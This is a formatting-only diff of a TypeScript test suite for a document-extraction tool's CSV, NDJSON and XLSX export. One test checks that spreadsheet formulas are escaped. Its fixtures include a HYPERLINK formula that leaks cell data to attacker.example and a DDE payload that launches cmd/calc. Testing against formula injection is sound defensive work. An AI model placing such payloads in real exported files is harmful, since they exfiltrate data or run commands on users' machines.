@@ -50,7 +50,10 @@ function resultsFolder(files: Record<string, string>): { dir: string; results: s
 
 /** A strict RFC 4180 read: CRLF records, every row as wide as the header, no loose quotes. */
 function readCsv(path: string): Record<string, string>[] {
-  return parse(readFileSync(path), { columns: true, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false, bom: false }) as Record<string, string>[];
+  return parse(readFileSync(path), { columns: true, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false, bom: false }) as Record<
+    string,
+    string
+  >[];
 }
 
 function header(path: string): string {
@@ -60,8 +63,24 @@ function header(path: string): string {
 describe('docextract export', () => {
   it('writes one table per type and one per list of objects, with a stable header and a summary', async () => {
     const ws = resultsFolder({
-      'a.pdf.json': resultJson({ path: 'in/a.pdf', data: { vendor: { name: 'ACME' }, total: 10, line_items: [{ sku: 'A1', qty: 2 }, { sku: 'A2', qty: 1 }] } }),
-      'sub/b.pdf.json': resultJson({ path: 'in/sub/b.pdf', status: 'partial', pages: 7, missing: [5, 6, 7], data: { vendor: { name: 'Beta', vat: 'FR1' }, tags: ['x', 'y'] } }),
+      'a.pdf.json': resultJson({
+        path: 'in/a.pdf',
+        data: {
+          vendor: { name: 'ACME' },
+          total: 10,
+          line_items: [
+            { sku: 'A1', qty: 2 },
+            { sku: 'A2', qty: 1 },
+          ],
+        },
+      }),
+      'sub/b.pdf.json': resultJson({
+        path: 'in/sub/b.pdf',
+        status: 'partial',
+        pages: 7,
+        missing: [5, 6, 7],
+        data: { vendor: { name: 'Beta', vat: 'FR1' }, tags: ['x', 'y'] },
+      }),
       'c.png.json': resultJson({ path: 'in/c.png', model: null, data: { document_type: 'receipt', merchant: 'Shop' } }),
       'notes.json': '{"hello": "world"}\n',
     });
@@ -82,10 +101,19 @@ describe('docextract export', () => {
     });
     expect(run.stderr).toContain('skipped notes.json: not a docextract result');
     // The data first; where each row comes from after it.
-    expect(header(join(ws.tables, 'invoice.csv'))).toBe('source_file,row,status,model,pages,missing_pages,tags,total,vendor.name,vendor.vat,source_pages,sha256,result_file,reviewed');
+    expect(header(join(ws.tables, 'invoice.csv'))).toBe(
+      'source_file,row,status,model,pages,missing_pages,tags,total,vendor.name,vendor.vat,source_pages,sha256,result_file,reviewed',
+    );
     const invoices = readCsv(join(ws.tables, 'invoice.csv'));
     const partial = invoices.find((row) => row.source_file === 'in/sub/b.pdf');
-    expect(partial).toMatchObject({ status: 'partial', pages: '7', missing_pages: '[5,6,7]', tags: '["x","y"]', 'vendor.vat': 'FR1', result_file: join('sub', 'b.pdf.json') });
+    expect(partial).toMatchObject({
+      status: 'partial',
+      pages: '7',
+      missing_pages: '[5,6,7]',
+      tags: '["x","y"]',
+      'vendor.vat': 'FR1',
+      result_file: join('sub', 'b.pdf.json'),
+    });
     expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([
       { source_file: 'in/a.pdf', row: '1', parent: 'invoice', parent_row: '1', qty: '2', sku: 'A1', result_file: 'a.pdf.json' },
       { source_file: 'in/a.pdf', row: '2', parent: 'invoice', parent_row: '1', qty: '1', sku: 'A2', result_file: 'a.pdf.json' },
@@ -98,7 +126,9 @@ describe('docextract export', () => {
   it('round-trips commas, quotes, newlines and unicode through a strict RFC 4180 parser, with a BOM on request', async () => {
     // (A value a spreadsheet would run is not written as it is: see the formula test below.)
     const awkward = ['a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 'crlf\r\nend', 'Zoë 東京 🚀', ' padded ', 'SUM(A1)=2'];
-    const ws = resultsFolder(Object.fromEntries(awkward.map((value, i) => [`r${i}.json`, resultJson({ path: `in/${value}.pdf`, data: { note: value, [`k,"${i}"`]: value } })])));
+    const ws = resultsFolder(
+      Object.fromEntries(awkward.map((value, i) => [`r${i}.json`, resultJson({ path: `in/${value}.pdf`, data: { note: value, [`k,"${i}"`]: value } })])),
+    );
     const run = await runCli(['export', ws.results, '--out', ws.tables, '--bom'], { env: isolatedEnv() });
     expect(run.code).toBe(0);
     const bytes = readFileSync(join(ws.tables, 'invoice.csv'));
@@ -111,7 +141,19 @@ describe('docextract export', () => {
   });
 
   it('writes no cell a spreadsheet would run as a formula: values, keys and file names get a leading quote; numbers, negative ones too, stay as they are', async () => {
-    const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', '-1+cmd', '\uFF1D1+1', '\uFF0B1', '\uFF0D1+1', '\uFF20SUM(1)', "'=quoted already"];
+    const formulas = [
+      '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+      '-1+cmd',
+      '\uFF1D1+1',
+      '\uFF0B1',
+      '\uFF0D1+1',
+      '\uFF20SUM(1)',
+      "'=quoted already",
+    ];
     const data = {
       ...Object.fromEntries(formulas.map((value, i) => [`f${i}`, value])),
       amount: -12.5,
@@ -127,11 +169,14 @@ describe('docextract export', () => {
     formulas.forEach((value, i) => expect(row?.[`f${i}`], JSON.stringify(value)).toBe(`'${value}`));
     expect(row).toMatchObject({ source_file: "'=evil.pdf", result_file: "'=evil.pdf.json", amount: '-12.5', amount_text: '-12.5', plus_text: '+3' });
     expect(row?.["'=cmd|' /C calc'!A0"]).toBe('a formula as a column name');
-    expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([{ source_file: "'=evil.pdf", row: '1', parent: 'invoice', parent_row: '1', amount: '-2', description: "'@SUM(A1:A9)", result_file: "'=evil.pdf.json" }]);
+    expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([
+      { source_file: "'=evil.pdf", row: '1', parent: 'invoice', parent_row: '1', amount: '-2', description: "'@SUM(A1:A9)", result_file: "'=evil.pdf.json" },
+    ]);
     // Whatever the cell, header included: it starts like no formula, or it is a plain number.
     for (const table of readdirSync(ws.tables)) {
       const cells = (parse(readFileSync(join(ws.tables, table)), { record_delimiter: '\r\n' }) as string[][]).flat();
-      for (const cell of cells) expect(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell), `${table}: ${JSON.stringify(cell)}`).toBe(false);
+      for (const cell of cells)
+        expect(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell), `${table}: ${JSON.stringify(cell)}`).toBe(false);
     }
   });
 
@@ -161,7 +206,10 @@ describe('docextract export', () => {
     const files: Record<string, string> = {};
     for (let i = 0; i < 2000; i++) {
       // Each document brings its own extra field, so the header is only known after the last file.
-      files[`batch-${i % 10}/doc-${i}.pdf.json`] = resultJson({ path: `in/doc-${i}.pdf`, data: { n: i, [`only_${i % 50}`]: 'x', items: [{ i: 1 }, { i: 2 }, { i: 3 }] } });
+      files[`batch-${i % 10}/doc-${i}.pdf.json`] = resultJson({
+        path: `in/doc-${i}.pdf`,
+        data: { n: i, [`only_${i % 50}`]: 'x', items: [{ i: 1 }, { i: 2 }, { i: 3 }] },
+      });
     }
     const ws = resultsFolder(files);
     const run = await runCli(['export', ws.results, '--out', ws.tables, '--json'], { env: isolatedEnv() });
@@ -181,7 +229,20 @@ describe('docextract export', () => {
     const ws = resultsFolder({ 'a.json': resultJson({ path: 'in/a.pdf', data: { vendor: { name: 'ACME' }, items: [{ sku: 'A' }] } }) });
     const toFile = await runCli(['export', ws.results, '--out', ws.tables, '--format', 'ndjson'], { env: isolatedEnv() });
     expect(toFile.code).toBe(0);
-    const expected = { source_file: 'in/a.pdf', row: 1, status: 'complete', model: 'invoice', pages: 1, missing_pages: null, 'vendor.name': 'ACME', items: [{ sku: 'A' }], source_pages: null, sha256: 'ab'.repeat(32), result_file: 'a.json', reviewed: false };
+    const expected = {
+      source_file: 'in/a.pdf',
+      row: 1,
+      status: 'complete',
+      model: 'invoice',
+      pages: 1,
+      missing_pages: null,
+      'vendor.name': 'ACME',
+      items: [{ sku: 'A' }],
+      source_pages: null,
+      sha256: 'ab'.repeat(32),
+      result_file: 'a.json',
+      reviewed: false,
+    };
     expect(parseNdjson(readFileSync(join(ws.tables, 'documents.ndjson'), 'utf8'))).toEqual([expected]);
     const toStdout = await runCli(['export', ws.results, '--out', '-', '--format', 'ndjson', '--json'], { env: isolatedEnv() });
     expect(toStdout.code).toBe(0);
@@ -238,7 +299,10 @@ describe('docextract export --format xlsx', () => {
       tags: ['a', 'b'],
       ...Object.fromEntries(formulas.map((value, i) => [`f${i}`, value])),
       '=cmd': 'a formula as a column name',
-      line_items: [{ description: '=1+1', amount: 10 }, { description: 'nut', amount: 2.5 }],
+      line_items: [
+        { description: '=1+1', amount: 10 },
+        { description: 'nut', amount: 2.5 },
+      ],
     };
     const ws = resultsFolder({
       'a.pdf.json': resultJson({ path: 'in/a.pdf', data }),
@@ -252,12 +316,23 @@ describe('docextract export --format xlsx', () => {
     expect(readdirSync(ws.tables)).toEqual(['tables.xlsx']);
     const summary = JSON.parse(run.stdout) as { format: string; documents: number; tables: { file: string; sheet: string; table: string; rows: number }[] };
     expect(summary).toMatchObject({ format: 'xlsx', documents: 5 });
-    expect(summary.tables.map((table) => table.table)).toEqual(['History', 'Invoice', expect.stringMatching(/^inv_oice_{7}of_ACME__the_long~[0-9a-f]{16}$/), 'invoice', 'invoice.line_items']);
+    expect(summary.tables.map((table) => table.table)).toEqual([
+      'History',
+      'Invoice',
+      expect.stringMatching(/^inv_oice_{7}of_ACME__the_long~[0-9a-f]{16}$/),
+      'invoice',
+      'invoice.line_items',
+    ]);
     // The sheets come in table order; 'Invoice' comes first, so 'invoice' is the name Excel would take for the same.
     const sheetOf = (table: string): string | undefined => summary.tables.find((entry) => entry.table === table)?.sheet;
     expect(sheetOf('Invoice')).toBe('Invoice');
     expect(sheetOf('invoice')).toMatch(/^invoice~[0-9a-f]{8}$/);
-    expect(summary.tables.find((table) => table.table === 'invoice.line_items')).toEqual({ file: 'tables.xlsx', sheet: 'invoice.line_items', table: 'invoice.line_items', rows: 2 });
+    expect(summary.tables.find((table) => table.table === 'invoice.line_items')).toEqual({
+      file: 'tables.xlsx',
+      sheet: 'invoice.line_items',
+      table: 'invoice.line_items',
+      rows: 2,
+    });
     expect(summary.tables.find((table) => table.table === 'invoice')?.rows).toBe(2);
 
     const workbook = new ExcelJS.Workbook();
@@ -272,7 +347,17 @@ describe('docextract export --format xlsx', () => {
     const invoices = sheetRecords(workbook.getWorksheet(sheetOf('invoice')));
     const a = invoices.find((row) => row.record.source_file === 'in/a.pdf');
     expect(a?.cells.invoice_number?.type).toBe(ExcelJS.ValueType.String);
-    expect(a?.record).toMatchObject({ invoice_number: '00670494', total: 1234.5, refund: -12.5, amount_text: '-12.5', not_a_date: '2024-02-30', paid: true, tags: '["a","b"]', row: 1, '=cmd': 'a formula as a column name' });
+    expect(a?.record).toMatchObject({
+      invoice_number: '00670494',
+      total: 1234.5,
+      refund: -12.5,
+      amount_text: '-12.5',
+      not_a_date: '2024-02-30',
+      paid: true,
+      tags: '["a","b"]',
+      row: 1,
+      '=cmd': 'a formula as a column name',
+    });
     expect(a?.cells.total?.type).toBe(ExcelJS.ValueType.Number);
     expect(a?.record.issue_date).toEqual(new Date(Date.UTC(2024, 2, 31)));
     expect(a?.cells.issue_date?.numFmt).toBe('yyyy-mm-dd');
@@ -345,7 +430,8 @@ describe('docextract export of whole files, page selections and parts in one fol
         if (name === 'invoice.line_items') expect(row.source_page).toBe(parents[0]?.source_page);
       }
     }
-    const sourcePages = (file: string) => (tables['invoice.data.pages'] ?? []).filter((page) => page.result_file === file).map((page) => Number(page.source_page));
+    const sourcePages = (file: string) =>
+      (tables['invoice.data.pages'] ?? []).filter((page) => page.result_file === file).map((page) => Number(page.source_page));
     const resultOf = (source: string, pages: string) => invoices.find((row) => row.source_file === source && row.source_pages === pages)?.result_file as string;
     expect(sourcePages(resultOf('../in/inv-003.pdf', '1-3'))).toEqual([1, 2, 3]);
     expect(sourcePages(resultOf('../in/inv-003.pdf', '1,3'))).toEqual([1, 3]);
@@ -367,12 +453,27 @@ describe('docextract export of the demo', () => {
     const env = emulatorEnv(emulator);
     const ws = resultsFolder({});
     const demo = join(import.meta.dirname, '../../../fixtures/demo/invoices');
-    const extract = await runCli(['extract', join(demo, 'invoice-INV-2024-0117.pdf'), join(demo, 'invoice-INV-2024-0118.pdf'), '--model', 'invoice', '--out', ws.results, '--rate-limit', 'none'], { env });
+    const extract = await runCli(
+      [
+        'extract',
+        join(demo, 'invoice-INV-2024-0117.pdf'),
+        join(demo, 'invoice-INV-2024-0118.pdf'),
+        '--model',
+        'invoice',
+        '--out',
+        ws.results,
+        '--rate-limit',
+        'none',
+      ],
+      { env },
+    );
     expect(extract.code, extract.stderr).toBe(0);
     const run = await runCli(['export', ws.results, '--out', ws.tables], { env });
     expect(run.code, run.stderr).toBe(0);
     expect(readdirSync(ws.tables).sort()).toEqual(['invoice.csv', 'invoice.data.pages.csv', 'invoice.line_items.csv']);
-    expect(header(join(ws.tables, 'invoice.line_items.csv'))).toBe('source_file,row,parent,parent_row,amount,description,quantity,unit_price,source_page,result_file');
+    expect(header(join(ws.tables, 'invoice.line_items.csv'))).toBe(
+      'source_file,row,parent,parent_row,amount,description,quantity,unit_price,source_page,result_file',
+    );
     expect(header(join(ws.tables, 'invoice.data.pages.csv'))).not.toContain('line_items');
     const pages = readCsv(join(ws.tables, 'invoice.data.pages.csv'));
     const items = readCsv(join(ws.tables, 'invoice.line_items.csv'));
@@ -383,7 +484,11 @@ describe('docextract export of the demo', () => {
       expect(parent?.source_page, JSON.stringify(item)).toBe(item.source_page);
     }
     const results = readdirSync(ws.results, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.pdf.json'));
-    const itemsInResults = results.flatMap((name) => (JSON.parse(readFileSync(join(ws.results, name), 'utf8')) as { data: { pages: { line_items: unknown[] }[] } }).data.pages.flatMap((page) => page.line_items));
+    const itemsInResults = results.flatMap((name) =>
+      (JSON.parse(readFileSync(join(ws.results, name), 'utf8')) as { data: { pages: { line_items: unknown[] }[] } }).data.pages.flatMap(
+        (page) => page.line_items,
+      ),
+    );
     expect(items).toHaveLength(itemsInResults.length);
   });
 });
